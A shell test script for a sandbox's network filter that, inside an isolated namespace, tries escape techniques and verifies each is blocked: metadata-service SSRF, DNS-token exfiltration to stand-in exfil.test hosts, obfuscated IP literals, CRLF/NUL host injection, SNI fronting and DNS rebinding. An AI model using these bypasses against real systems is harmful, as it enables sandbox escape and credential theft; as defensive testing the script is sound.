#!/bin/sh
# The network vectors of threats.md section 7, one by one, against the real
# binary: --network=filtered (the proxy), none and full.
#
# NETWORK RULE.  Nothing here may send a packet anywhere but a network
# namespace this test creates, even when the code under test is wrong.  So
# the script re-executes itself under `unshare --user --map-root-user --net
# --mount` and, before anything else, checks that it is in a fresh namespace
# (only lo, no route at all).  There it builds its own small world:
#   lo               127.0.0.1 / ::1: stands in for the host's loopback
#                    (a "DevTools" service on :9222, a UDP sink)
#   veth nv0 <-> nv1 (both ends here; every address below is local to this
#                    namespace, which has no route anywhere else):
#     100.200.0.2    a public-class address: the "internet" (HTTP :80,
#                    HTTPS :443 with a test CA, SSH-like :22, UDP sink)
#     10.200.0.2     a private address (rebinding target)
#     10.200.0.53    the DNS server: answers a few names, logs EVERY query
#     169.254.169.254  the cloud metadata service
#     fd00:200::2    IPv6 (unique-local)
# /etc/hosts and /etc/resolv.conf are bind-mounted (in this mount namespace
# only) to map the test names.  safehouse, its proxy and the sandbox all run
# inside: the proxy in this namespace, the sandbox in its own nested one.
# Every server logs what reaches it (tests/helpers/netvec-srv.py), so a
# refusal is checked where it matters: nothing arrived, no DNS query left.
# The hostile client inside the sandbox is tests/helpers/netvec-cli.py.
if [ "${SH_NETVEC_NS:-0}" != 1 ]; then
	if command -v unshare >/dev/null 2>&1 &&
		unshare --user --map-root-user --net --mount true 2>/dev/null; then
		SH_NETVEC_NS=1 exec unshare --user --map-root-user --net --mount --propagation private \
			sh "$0" "$@"
	fi
	. "$(dirname "$0")/lib.sh"
	skip "network vectors in a test network namespace" \
		"unshare --user --net --mount is not permitted here"
	exit 0
fi
. "$(dirname "$0")/lib.sh"

S=$SAFEHOUSE
PY=/usr/bin/python3
CURL=/usr/bin/curl
IP=$(command -v ip 2>/dev/null || echo /usr/sbin/ip)
[ -x "$IP" ] || IP=/sbin/ip
HELP=$SH_ROOT/tests/helpers
H=$T/home W=$T/work
mkdir -p "$H" "$W" "$T/srv"
export HOME="$H"
cd "$W" || exit 1

for tool in "$PY" "$CURL" "$IP" /usr/bin/openssl /usr/bin/git; do
	if [ ! -x "$tool" ]; then
		skip "network vectors" "needs $tool"
		exit 0
	fi
done

# sect NAME: the lines of $SOUT (a sandbox script's output) after "== NAME",
# up to the next "== ".  The checks look at one section in $OUT, so that a
# failure shows that section.
SOUT=""
sect() { printf '%s\n' "$SOUT" | awk -v s="== $1" '$0 == s { on = 1; next } /^== / { on = 0 } on'; }
# count PATTERN TEXT: lines of TEXT matching the fixed string PATTERN.
count() { printf '%s\n' "$2" | grep -c -F -- "$1"; }
# hasline TEXT LINE: TEXT has LINE as a whole line.
hasline() { printf '%s\n' "$1" | grep -q -x -F -- "$2"; }

# ---------------------------------------------------------------- the world
# Safety first: a fresh network namespace has only lo and no route.  If not,
# stop before sending anything.
links=$("$IP" -o link show | awk -F': ' '{printf "%s ", $2}')
routes=$("$IP" route show; "$IP" -6 route show)
if [ "$links" != "lo " ] || [ -n "$routes" ]; then
	not_ok "the test runs in a fresh network namespace (links: $links; routes: $routes)"
	exit 0
fi
setup() {
	"$IP" link set lo up &&
		"$IP" link add nv0 type veth peer name nv1 &&
		"$IP" link set nv0 up && "$IP" link set nv1 up &&
		"$IP" addr add 10.200.0.1/24 dev nv0 &&
		"$IP" addr add 10.200.0.2/24 dev nv1 &&
		"$IP" addr add 10.200.0.53/32 dev nv1 &&
		"$IP" addr add 100.200.0.2/24 dev nv1 &&
		"$IP" addr add 169.254.169.254/32 dev nv1 &&
		"$IP" -6 addr add fd00:200::2/64 dev nv1 nodad
}
if ! setup 2>"$T/setup.err"; then
	not_ok "test network set up: $(cat "$T/setup.err")"
	exit 0
fi
routes=$("$IP" route show default; "$IP" -6 route show default)
if [ -n "$routes" ]; then
	not_ok "the test network has no default route ($routes)"
	exit 0
fi

cat >"$T/hosts" <<'EOF'
127.0.0.1 localhost rebind-lo.test
::1 localhost ip6-localhost
100.200.0.2 allowed.test www.allowed.test deny.allowed.test evilallowed.test allowed.test.evil.test
100.200.0.2 git.test registry.test other.test api.openai.com
10.200.0.2 rebind.test
169.254.169.254 meta.test metadata.google.internal
fd00:200::2 v6only.test
EOF
printf 'nameserver 10.200.0.53\noptions timeout:1 attempts:1\n' >"$T/resolv.conf"
if ! mount --bind "$T/hosts" /etc/hosts 2>"$T/setup.err" ||
	! mount --bind "$T/resolv.conf" /etc/resolv.conf 2>>"$T/setup.err"; then
	not_ok "test hosts and resolv.conf mounted: $(cat "$T/setup.err")"
	exit 0
fi

# A test CA and a server certificate for the HTTPS names.
(
	cd "$T/srv" || exit 1
	printf 'subjectAltName=DNS:allowed.test,DNS:www.allowed.test,DNS:git.test,DNS:registry.test,DNS:api.openai.com\n' >ext.cnf
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout ca.key \
		-out ca.pem -days 2 -subj /CN=netvec-test-ca &&
		openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout srv.key \
			-out srv.csr -subj /CN=allowed.test &&
		openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial -out srv.pem \
			-days 2 -extfile ext.cnf
) >"$T/setup.err" 2>&1 || {
	not_ok "test certificates made: $(tail -3 "$T/setup.err")"
	exit 0
}
cp "$T/srv/ca.pem" "$W/ca.pem"

# A bare git repository to clone.
(
	cd "$T" && git init -q -b main src && cd src && echo "netvec repo content" >README &&
		git add README && git -c user.name=t -c user.email=t@t commit -q -m init &&
		git clone -q --bare "$T/src" "$T/git/repo.git"
) >"$T/setup.err" 2>&1 || {
	not_ok "test git repository made: $(tail -3 "$T/setup.err")"
	exit 0
}

SLOG=$T/srv.log
: >"$SLOG"
SRV=""
trap '[ -n "$SRV" ] && kill "$SRV" 2>/dev/null; chmod -R u+rwX "$T" 2>/dev/null; rm -rf "$T"' EXIT INT TERM
timeout 600 "$PY" "$HELP/netvec-srv.py" --log "$SLOG" --ready "$T/ready" \
	--cert "$T/srv/srv.pem" --key "$T/srv/srv.key" --git-root "$T/git" \
	http:100.200.0.2:80:public https:100.200.0.2:443:public tcp:100.200.0.2:22:ssh \
	udp:100.200.0.2:9999:udp-public http:10.200.0.2:80:private \
	http:169.254.169.254:80:metadata 'http:[fd00:200::2]:80:v6' 'udp:[fd00:200::2]:9999:udp-v6' \
	http:127.0.0.1:9222:hostlo 'http:[::1]:9222:hostlo6' udp:127.0.0.1:9999:udp-lo \
	dns:10.200.0.53:53:dnsonly.test=100.200.0.2,dnsrebind.test=10.200.0.2,mixed.test=10.200.0.2+100.200.0.2 \
	>"$T/srv.err" 2>&1 &
SRV=$!
for _ in $(seq 1 100); do
	[ -s "$T/ready" ] && break
	sleep 0.1
done
if [ ! -s "$T/ready" ]; then
	not_ok "the test servers started: $(tail -3 "$T/srv.err")"
	exit 0
fi
# The world answers, outside the sandbox (or every refusal below would prove nothing).
run "$CURL" -s -m 5 --cacert "$T/srv/ca.pem" http://allowed.test/ https://allowed.test/ \
	http://rebind.test/ http://meta.test/ 'http://[fd00:200::2]/' http://127.0.0.1:9222/
check "the test world answers outside the sandbox (public, TLS, private, metadata, IPv6, loopback)" \
	'[ "$(count "hello from public host=allowed.test path=/" "$OUT")" = 2 ] && has "$OUT" "hello from private" && has "$OUT" "hello from metadata" && has "$OUT" "hello from v6" && has "$OUT" "hello from hostlo"'
run getent hosts dnsonly.test
check "the test DNS server answers outside the sandbox" 'has "$OUT" "100.200.0.2"'
: >"$SLOG" # from here on, the log holds only what the sandbox caused

cp "$HELP/netvec-cli.py" "$W/cli.py"
cp "$PROBE" "$W/probe"

# ---------------------------------------------------------------- filtered, names allowed
# Every name is allowed by --allow-domains here, so what refuses the
# private, loopback and metadata destinations is the address check.
cat >"$W/a.sh" <<'EOF'
IPCMD=$1
cli() { /usr/bin/python3 ./cli.py "$@"; }
C="/usr/bin/curl -s -m 8"
echo "== control"
$C http://allowed.test/ok-http
$C --cacert ca.pem https://allowed.test/ok-https
$C -x socks5h://127.0.0.1:3128 http://allowed.test/ok-socks
cli raw 'GET http://ALLOWED.TEST./ok-canon HTTP/1.1\r\nHost: Allowed.Test.\r\n\r\n'
$C http://dnsonly.test/ok-dns
echo "== mixed"
$C http://mixed.test/ok-mixed
echo "== not-allowed"
$C http://other.test/leak-other
cli raw 'CONNECT other.test:443 HTTP/1.1\r\n\r\nGET /leak-other HTTP/1.0\r\n\r\n'
echo "== deny"
$C http://deny.allowed.test/leak-deny
echo "== literals"
for h in 100.200.0.2 1690828802 0x64c80002 0144.0310.0.02 100.13107202 100.200.2 0x64.0xc8.0.2 \
	'[::ffff:100.200.0.2]' '[::ffff:64c8:2]' '[0:0:0:0:0:ffff:100.200.0.2]'; do
	cli raw "CONNECT $h:80 HTTP/1.1\r\n\r\nGET /leak-lit HTTP/1.0\r\n\r\n"
	cli raw "GET http://$h/leak-lit HTTP/1.1\r\nHost: $h\r\n\r\n"
done
for h in 100.200.0.2 1690828802 ::ffff:100.200.0.2; do cli socks "$h" 80 1 /leak-lit; done
cli socksip 100.200.0.2 80 /leak-lit
cli socksip ::ffff:100.200.0.2 80 /leak-lit
echo "== ctlbytes"
for h in 'allowed.test\x00.other.test' 'allowed.test\x00' '\x00allowed.test' 'allowed.test%00' \
	'allowed.test\x01' 'allowed.test\x7f' 'allowed\x09test' 'allowed.test\xc0\xae' \
	'allowed.test\r\nX-Injected: 1' 'allowed.test@other.test' 'allowed.test..' 'x..allowed.test'; do
	cli raw "CONNECT $h:80 HTTP/1.1\r\n\r\nGET /leak-ctl HTTP/1.0\r\n\r\n"
	cli raw "GET http://$h/leak-ctl HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
	cli socks "$h" 80 1 /leak-ctl
done
echo "== suffix"
for h in evilallowed.test allowed.test.evil.test; do
	cli raw "GET http://$h/leak-suffix HTTP/1.1\r\nHost: $h\r\n\r\n"
	cli raw "CONNECT $h:443 HTTP/1.1\r\n\r\nGET /leak-suffix HTTP/1.0\r\n\r\n"
done
echo "== suffix-ok"
for h in www.allowed.test WWW.Allowed.TEST www.allowed.test.; do
	cli raw "GET http://$h/ok-suffix HTTP/1.1\r\nHost: $h\r\n\r\n"
done
echo "== sni-ok"
cli sni allowed.test 443 allowed.test ca.pem
echo "== sni-front"
for s in other.test allowed.test.other.test www.allowed.test; do cli sni allowed.test 443 "$s" ca.pem; done
echo "== pinned"
$C --cacert ca.pem --resolve allowed.test:443:10.200.0.2 https://allowed.test/ok-pinned
echo "== hostmismatch"
cli raw 'GET http://allowed.test/leak-host HTTP/1.1\r\nHost: other.test\r\n\r\n'
cli raw 'GET http://allowed.test/leak-host HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n'
cli raw 'GET http://allowed.test/leak-host HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n'
$C -H 'Host: other.test' http://allowed.test/leak-host
echo "== exfil-proxy"
$C http://tok1-http.exfil.test/; echo "rc=$?"
$C https://tok2-connect.exfil.test/; echo "rc=$?"
$C -x socks5h://127.0.0.1:3128 http://tok3-socks.exfil.test/; echo "rc=$?"
echo "== exfil-sandbox"
getent hosts tok4-getent.exfil.test; echo "getent=$?"
cli resolve tok5-gai.exfil.test
cli dnsq 10.200.0.53 tok6-direct.exfil.test
cli dnsq fd00:200::2 tok7-direct.exfil.test
echo "== udp"
cli udp 100.200.0.2 9999 tok-udp-public
cli udp fd00:200::2 9999 tok-udp-v6
cli udp 127.0.0.1 9999 tok-udp-lo
cli socks 0.0.0.0 0 3
echo "== ipv6"
cli tcp fd00:200::2 80
$C -g 'http://[fd00:200::2]/leak-v6'
$C http://v6only.test/leak-v6
echo "== rebind"
$C http://rebind.test/leak-rebind
$C http://rebind-lo.test/leak-rebind
$C http://dnsrebind.test/leak-rebind
echo "== metadata"
$C http://meta.test/latest/meta-data/
$C http://metadata.google.internal/computeMetadata/v1/
cli raw 'CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\nGET /leak-meta HTTP/1.0\r\n\r\n'
cli raw 'GET http://0xa9fea9fe/leak-meta HTTP/1.1\r\nHost: 0xa9fea9fe\r\n\r\n'
cli tcp 169.254.169.254 80
$C --noproxy '*' http://169.254.169.254/leak-meta; echo "direct=$?"
echo "== hostlo"
cli tcp 127.0.0.1 9222
cli tcp ::1 9222
$C --noproxy '*' http://127.0.0.1:9222/json/version; echo "direct=$?"
$C --noproxy '' http://localhost:9222/json/version
for h in 127.0.0.1 127.1 2130706433 0x7f000001 '[::1]' '[::ffff:127.0.0.1]' 0 0.0.0.0 \
	localhost. LOCALHOST; do
	cli raw "CONNECT $h:9222 HTTP/1.1\r\n\r\nGET /leak-hostlo HTTP/1.0\r\n\r\n"
done
cli raw 'CONNECT localhost:3128 HTTP/1.1\r\n\r\n'
echo "== direct"
$C --noproxy '*' http://allowed.test/leak-direct; echo "curl=$?"
env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy $C http://allowed.test/leak-direct; echo "noenv=$?"
cli tcp 100.200.0.2 80
cli tcp 100.200.0.2 443
echo "== ports"
cli raw 'CONNECT allowed.test:22 HTTP/1.1\r\n\r\nSSH-2.0-leak\r\n'
cli socks allowed.test 22 1 /leak-port
echo "== sockets"
for s in "inet raw" "inet6 raw" "inet dgram 1" "inet6 dgram 58" "packet raw" "packet dgram" \
	"vsock stream" "vsock dgram"; do
	printf '%s: ' "$s"; ./probe socket $s >/dev/null 2>&1 && echo created || ./probe socket $s
done
"$IPCMD" route add 10.9.9.0/24 dev lo 2>&1; echo "route=$?"
"$IPCMD" link set lo down 2>&1; echo "linkdown=$?"
"$IPCMD" -o link show | awk -F': ' '{print "link " $2}'
echo "== end"
EOF
LOG=$T/netlog
ALLOW='allowed.test,*.allowed.test,dnsonly.test,mixed.test,rebind.test,rebind-lo.test,dnsrebind.test,meta.test,metadata.google.internal,v6only.test,localhost:9222'
run "$S" --network=filtered --allow-domains="$ALLOW" \
	--deny-domains=deny.allowed.test --network-log="$LOG" -- /bin/sh ./a.sh "$IP"
SOUT=$OUT A_ERR=$ERR
check "filtered: the vector script ran to the end" '[ $RC -eq 0 ] && has "$OUT" "== end"'

OUT=$(sect control)
check "control: allowed names are reached through the proxy (HTTP, CONNECT+TLS, SOCKS5, canonical case and dot, a name only in DNS)" \
	'hasline "$OUT" "hello from public host=allowed.test path=/ok-http" && has "$OUT" "path=/ok-https" && has "$OUT" "path=/ok-socks" && has "$OUT" "path=/ok-canon" && has "$OUT" "host=dnsonly.test path=/ok-dns"'
OUT=$(sect mixed)
check "a name with a private and a public address: only the public one is used" \
	'has "$OUT" "hello from public host=mixed.test" && ! grep -q "private GET mixed.test" "$SLOG"'
OUT=$(sect not-allowed)
check "403 body names the destination, the rule missing and the flag (HTTP and CONNECT)" \
	'has "$OUT" "refused other.test:80" && has "$OUT" "reason: no allow rule matches other.test:80" && has "$OUT" "To allow it: --allow-domains=other.test" && has "$OUT" "status 403" && has "$OUT" "refused other.test:443"'
OUT=$(sect deny)
check "403 names the deny rule and where it came from" \
	'has "$OUT" "deny rule '"'"'deny.allowed.test'"'"' (from --deny-domains)"'
OUT=$(sect literals)
check "NET-09 IP literal spellings (dotted, decimal, hex, octal, short, mixed, IPv4-mapped IPv6) refused: CONNECT, GET, SOCKS5" \
	'[ "$(count "status 403" "$OUT")" = 20 ] && [ "$(count "socks rep=2" "$OUT")" = 5 ] && hasnt "$OUT" "status 200" && has "$OUT" "To allow it: --allow-domains=100.200.0.2:80"'
OUT=$(sect ctlbytes)
check "NUL, control bytes, %, @, CRLF, non-ASCII and empty labels in names: refused (CONNECT, GET, SOCKS5)" \
	'[ "$(count "status 40" "$OUT")" = 24 ] && [ "$(count "socks rep=2" "$OUT")" = 12 ] && hasnt "$OUT" "status 200" && hasnt "$OUT" "socks rep=0"'
OUT=$(sect suffix)
check "suffix tricks: *.allowed.test matches neither evilallowed.test nor allowed.test.evil.test" \
	'[ "$(count "status 403" "$OUT")" = 4 ] && has "$OUT" "no allow rule matches evilallowed.test:80"'
OUT=$(sect suffix-ok)
check "suffix: www.allowed.test in any case and with a trailing dot is the same allowed name" \
	'[ "$(count "status 200" "$OUT")" = 3 ]'
OUT=$(sect sni-ok)
check "SNI matching the CONNECT host: TLS handshake through the tunnel" 'has "$OUT" "tls ok HTTP/1.0 200"'
OUT=$(sect sni-front)
check "NET-12a SNI mismatch (CONNECT allowed.test, ClientHello for another name): alert, no handshake" \
	'[ "$(count "ACCESS_DENIED" "$OUT")" = 3 ] && hasnt "$OUT" "tls ok"'
check "NET-12a the upstream never saw the mismatched ClientHello (no bytes, no SNI logged)" \
	'[ "$(grep -c "tls public no-data" "$SLOG")" = 3 ] && ! grep -q "sni=other.test\|sni=allowed.test.other\|sni=www.allowed.test" "$SLOG"'
OUT=$(sect pinned)
check "NET-12b the proxy connects to what it resolved, not to an address the client pins" \
	'has "$OUT" "hello from public host=allowed.test path=/ok-pinned" && ! grep -q "^http private" "$SLOG"'
OUT=$(sect hostmismatch)
check "NET-11 absolute URI and Host disagree (other host, other port, two Hosts): refused" \
	'[ "$(count "status 40" "$OUT")" = 3 ] && has "$OUT" "Host header names another host" && hasnt "$OUT" "hello from"'
OUT=$(sect exfil-proxy)
check "NET-14 a denied name through the proxy (HTTP, CONNECT, SOCKS5) is refused" \
	'has "$OUT" "refused tok1-http.exfil.test:80" && [ "$(count "rc=0" "$OUT")" = 1 ] && ! has "$OUT" "hello from"'
OUT=$(sect exfil-sandbox)
check "NET-14 the sandbox cannot resolve or query DNS itself" \
	'has "$OUT" "getent=2" && has "$OUT" "resolve error" && has "$OUT" "dns error ENETUNREACH" && hasnt "$OUT" "dns answered"'
check "NET-14 no denied name ever reached the DNS server (its log), while the allowed ones did" \
	'! grep -q "^dns.*tok" "$SLOG" && grep -q "^dns dnsonly.test 1" "$SLOG" && grep -q "^dns mixed.test" "$SLOG"'
OUT=$(sect udp)
check "NET-06 UDP cannot leave (ENETUNREACH); SOCKS5 UDP ASSOCIATE is refused (0x07)" \
	'[ "$(count "udp error ENETUNREACH" "$OUT")" = 2 ] && has "$OUT" "socks rep=7"'
check "NET-06 no datagram reached any UDP listener (public, IPv6, host loopback)" '! grep -q "^udp" "$SLOG"'
OUT=$(sect ipv6)
check "NET-07 IPv6: no direct route; literal and ULA answers refused by the proxy" \
	'has "$OUT" "tcp error" && has "$OUT" "refused [fd00:200::2]:80" && has "$OUT" "fd00:200::2 is unique-local" && hasnt "$OUT" "hello from"'
OUT=$(sect rebind)
check "rebinding: allowed names resolving to 10.x and 127.x are refused, naming --allow-private-network" \
	'has "$OUT" "10.200.0.2 is private" && has "$OUT" "127.0.0.1 is loopback" && [ "$(count "To allow it: --allow-private-network" "$OUT")" = 3 ] && hasnt "$OUT" "hello from"'
OUT=$(sect metadata)
check "NET-16 metadata: by name (allowed), literal, hex literal and directly: refused" \
	'[ "$(count "cloud metadata" "$OUT")" = 2 ] && has "$OUT" "No flag allows this by name" && [ "$(count "status 403" "$OUT")" = 2 ] && has "$OUT" "tcp error" && hasnt "$OUT" "direct=0" && hasnt "$OUT" "hello from"'
OUT=$(sect hostlo)
check "NET-08 the host loopback service: unreachable directly and through the proxy by any spelling" \
	'[ "$(count "tcp error" "$OUT")" = 2 ] && hasnt "$OUT" "direct=0" && has "$OUT" "is loopback" && [ "$(count "status 403" "$OUT")" = 11 ] && hasnt "$OUT" "hello from"'
OUT=$(sect direct)
check "NET-05 a direct connection ignoring the proxy fails (curl --noproxy, no variables, raw TCP)" \
	'hasnt "$OUT" "curl=0" && hasnt "$OUT" "noenv=0" && [ "$(count "tcp error" "$OUT")" = 2 ] && hasnt "$OUT" "hello from"'
OUT=$(sect ports)
check "NET-17 an allowed name on another port (SSH :22) is refused, naming host:port" \
	'has "$OUT" "To allow it: --allow-domains=allowed.test:22" && has "$OUT" "socks rep=2" && ! grep -q "^tcp ssh" "$SLOG"'
OUT=$(sect sockets)
check "NET-01/02/04 raw, ping, packet and vsock sockets cannot be created (filtered)" \
	'hasnt "$OUT" "created" && [ "$(printf "%s\n" "$OUT" | grep -c -E "^(inet|inet6|packet|vsock) [a-z0-9 ]+: E(PERM|ACCES|AFNOSUPPORT)$")" = 8 ]'
check "NET-03 netlink: no route or link change; only the sandbox's own lo is visible" \
	'hasnt "$OUT" "route=0" && hasnt "$OUT" "linkdown=0" && has "$OUT" "link lo" && hasnt "$OUT" "link nv"'
check "nothing refused reached any server (no /leak- request in the servers' log)" \
	'! grep -q "leak" "$SLOG" && ! grep -q "^http metadata\|^http hostlo\|^http private\|^http v6" "$SLOG"'
OUT=$A_ERR
check "the session summary counts the denied destinations" \
	'has "$OUT" "network: allowed" && has "$OUT" "other.test:80  not-allowed" && has "$OUT" "rebind.test:80  address-class"'
run cat "$LOG"
check "--network-log records the refusals with their reasons, without paths or bodies" \
	'has "$OUT" "deny tls allowed.test:443 reason=sni-mismatch" && has "$OUT" "reason=host-mismatch" && has "$OUT" "reason=address-class" && has "$OUT" "<malformed>" && has "$OUT" "reason=malformed-host" && hasnt "$OUT" "leak"'

# ---------------------------------------------------------------- the apex is not *.
run "$S" --network=filtered --allow-domains='*.allowed.test' -- /usr/bin/python3 ./cli.py raw \
	'GET http://allowed.test/leak-apex HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
check "suffix: *.allowed.test does not cover allowed.test itself" \
	'has "$OUT" "status 403" && has "$OUT" "no allow rule matches allowed.test:80" && ! grep -q leak-apex "$SLOG"'

# ---------------------------------------------------------------- with --allow-private-network
cat >"$W/b.sh" <<'EOF'
C="/usr/bin/curl -s -m 8"
echo "== private"
$C http://rebind.test/ok-rebind
$C http://dnsrebind.test/ok-rebind
$C http://v6only.test/ok-v6
$C --noproxy '' http://localhost:9222/ok-hostlo
echo "== metadata"
$C http://meta.test/leak-meta
/usr/bin/python3 ./cli.py raw 'CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\nGET /leak-meta HTTP/1.0\r\n\r\n'
echo "== end"
EOF
run "$S" --network=filtered --allow-private-network \
	--allow-domains=rebind.test,dnsrebind.test,v6only.test,meta.test,localhost:9222 -- /bin/sh ./b.sh
SOUT=$OUT
OUT=$(sect private)
check "--allow-private-network: the same private, IPv6 and loopback destinations are reached (the refusals above were the policy)" \
	'[ "$(count "hello from private" "$OUT")" = 2 ] && has "$OUT" "hello from v6 host=v6only.test" && has "$OUT" "host=localhost path=/ok-hostlo"'
OUT=$(sect metadata)
check "NET-16 metadata stays refused with --allow-private-network (name and literal)" \
	'has "$OUT" "No flag allows this by name" && has "$OUT" "status 403" && hasnt "$OUT" "hello from"'
check "NET-16 the metadata stand-in never saw a request from the sandbox" '! grep -q "^http metadata" "$SLOG"'
run "$S" --network=filtered --allow-domains=169.254.169.254:80 -- $CURL -s -m 8 http://169.254.169.254/explicit
check "metadata only when its exact address is listed (explicit consent, as documented)" \
	'has "$OUT" "hello from metadata host=169.254.169.254 path=/explicit"'

# ---------------------------------------------------------------- none
cat >"$W/n.sh" <<'EOF'
IPCMD=$1
cli() { /usr/bin/python3 ./cli.py "$@"; }
echo "== none"
echo "proxy=${HTTP_PROXY:-unset}"
/usr/bin/curl -s -m 5 http://allowed.test/leak-none; echo "curl=$?"
cli tcp 100.200.0.2 80
cli tcp fd00:200::2 80
cli tcp 127.0.0.1 9222
cli udp 100.200.0.2 9999 tok-udp-none
cli dnsq 10.200.0.53 tok8-none.exfil.test
getent hosts tok9-none.exfil.test; echo "getent=$?"
for s in "inet stream" "inet6 stream" "inet dgram" "inet raw" "packet raw" "vsock stream" "vsock dgram"; do
	printf '%s: ' "$s"; ./probe socket $s >/dev/null 2>&1 && echo created || ./probe socket $s
done
"$IPCMD" route add 10.9.9.0/24 dev lo 2>&1; echo "route=$?"
"$IPCMD" -o link show | awk -F': ' '{print "link " $2}'
echo "== end"
EOF
: >"$SLOG"
run "$S" --network=none -- /bin/sh ./n.sh "$IP"
SOUT=$OUT
OUT=$(sect none)
check "none: no TCP, UDP, DNS or IPv6 (EAFNOSUPPORT), no proxy variables" \
	'has "$OUT" "proxy=unset" && hasnt "$OUT" "curl=0" && [ "$(count "tcp error EAFNOSUPPORT" "$OUT")" = 3 ] && has "$OUT" "udp error EAFNOSUPPORT" && has "$OUT" "dns error EAFNOSUPPORT" && hasnt "$OUT" "getent=0"'
check "none: no inet, raw, packet or vsock socket can be created" \
	'hasnt "$OUT" "created" && [ "$(printf "%s\n" "$OUT" | grep -c ": EAFNOSUPPORT$")" = 7 ]'
check "none: no route change, only its own lo" 'hasnt "$OUT" "route=0" && has "$OUT" "link lo" && hasnt "$OUT" "link nv"'
check "none: nothing reached any server or the DNS server" '[ ! -s "$SLOG" ]'

# ---------------------------------------------------------------- full
run "$S" --network=full -- /bin/sh -c "$CURL -s -m 8 --noproxy '*' http://127.0.0.1:9222/full-lo; $CURL -s -m 8 --noproxy '*' http://allowed.test/full-direct"
check "full: reaches the loopback test server and the network directly" \
	'has "$OUT" "hello from hostlo host=127.0.0.1 path=/full-lo" && has "$OUT" "hello from public host=allowed.test path=/full-direct"'

# ---------------------------------------------------------------- the default codex policy
mkdir -p "$W/bin"
printf '#!/bin/sh\n# stands in for codex: consume the -c KEY=VALUE that safehouse inserts, as codex does\nif [ "$1" = -c ] && [ "$2" = '"'"'sandbox_mode="danger-full-access"'"'"' ]; then shift 2; fi\nexec /bin/sh "$@"\n' >"$W/bin/codex"
chmod +x "$W/bin/codex"
LOG2=$T/netlog2
run env PATH="$W/bin:$PATH" "$S" --network-log="$LOG2" -- codex -c \
	"$CURL -s -m 8 --cacert ca.pem https://api.openai.com/v1/models; $CURL -s -m 8 http://other.test/leak-codex; $CURL -s -m 8 --noproxy '*' https://api.openai.com/leak-codex; echo direct=\$?"
check "default codex policy: the model API (a test stand-in) is reached through the proxy" \
	'has "$OUT" "hello from public host=api.openai.com path=/v1/models" && grep -q "allow http-connect api.openai.com:443" "$LOG2"'
check "default codex policy: any other destination gets the 403 explanation; no direct way out" \
	'has "$OUT" "To allow it: --allow-domains=other.test" && hasnt "$OUT" "direct=0" && ! grep -q leak-codex "$SLOG"'

# ---------------------------------------------------------------- git and npm through the proxy
cat >"$W/g.sh" <<'EOF'
C=$PWD/ca.pem
echo "== git-https"
GIT_SSL_CAINFO=$C git clone -q https://git.test/repo.git clone-https 2>&1; echo "rc=$?"
cat clone-https/README
echo "== git-http"
git clone -q http://git.test/repo.git clone-http 2>&1; echo "rc=$?"
cat clone-http/README
echo "== git-denied"
GIT_SSL_CAINFO=$C git clone -q https://other.test/repo.git clone-denied 2>&1; echo "rc=$?"
echo "== npm-https"
mkdir -p p1 && cd p1 && echo '{"name":"p1","version":"1.0.0"}' >package.json
npm install --registry=https://registry.test/ --cafile="$C" --cache="$PWD/../.npm-cache" \
	--no-audit --no-fund --no-update-notifier --loglevel=error nvtest-pkg 2>&1; echo "rc=$?"
node -e 'console.log(require("nvtest-pkg"))'
cd ..
echo "== npm-http"
mkdir -p p2 && cd p2 && echo '{"name":"p2","version":"1.0.0"}' >package.json
npm install --registry=http://registry.test/ --cache="$PWD/../.npm-cache2" \
	--no-audit --no-fund --no-update-notifier --loglevel=error nvtest-pkg 2>&1; echo "rc=$?"
node -e 'console.log(require("nvtest-pkg"))'
cd ..
echo "== npm-denied"
mkdir -p p3 && cd p3 && echo '{"name":"p3","version":"1.0.0"}' >package.json
npm install --registry=https://other.test/ --cafile="$C" --cache="$PWD/../.npm-cache3" \
	--no-audit --no-fund --no-update-notifier --loglevel=error --fetch-retries=0 nvtest-pkg 2>&1; echo "rc=$?"
cd ..
echo "== end"
EOF
if [ -x /usr/bin/npm ] && [ -x /usr/bin/node ]; then
	LOG3=$T/netlog3
	: >"$SLOG"
	run "$S" --network=filtered --allow-domains=git.test,registry.test --network-log="$LOG3" -- /bin/sh ./g.sh
	SOUT=$OUT
	OUT=$(sect git-https)
	check "git clone over HTTPS through the proxy (CONNECT, test CA)" \
		'has "$OUT" "rc=0" && has "$OUT" "netvec repo content" && grep -q "allow http-connect git.test:443 rule=git.test" "$LOG3" && grep -q "^http public GET git.test /repo.git/info/refs" "$SLOG"'
	OUT=$(sect git-http)
	check "git clone over plain HTTP through the proxy (forwarded requests)" \
		'has "$OUT" "rc=0" && has "$OUT" "netvec repo content" && grep -q "allow http git.test:80 rule=git.test" "$LOG3"'
	OUT=$(sect git-denied)
	check "git clone from a name not allowed fails with 403" \
		'hasnt "$OUT" "rc=0" && has "$OUT" "403" && grep -q "deny http-connect other.test:443 reason=not-allowed" "$LOG3"'
	OUT=$(sect npm-https)
	check "npm install from the allowed registry name over HTTPS through the proxy" \
		'has "$OUT" "rc=0" && has "$OUT" "nvtest-pkg works" && grep -q "allow http-connect registry.test:443 rule=registry.test" "$LOG3" && grep -q "GET registry.test /nvtest-pkg/-/nvtest-pkg-1.0.0.tgz" "$SLOG"'
	OUT=$(sect npm-http)
	check "npm install from the allowed registry name over plain HTTP through the proxy" \
		'has "$OUT" "rc=0" && has "$OUT" "nvtest-pkg works" && grep -q "allow http registry.test:80 rule=registry.test" "$LOG3"'
	OUT=$(sect npm-denied)
	check "npm install from a registry name not allowed fails" \
		'hasnt "$OUT" "rc=0" && grep -q "deny http-connect other.test:443" "$LOG3" && ! grep -q "other.test" "$SLOG"'
else
	skip "npm install through the proxy" "needs /usr/bin/npm and /usr/bin/node"
fi
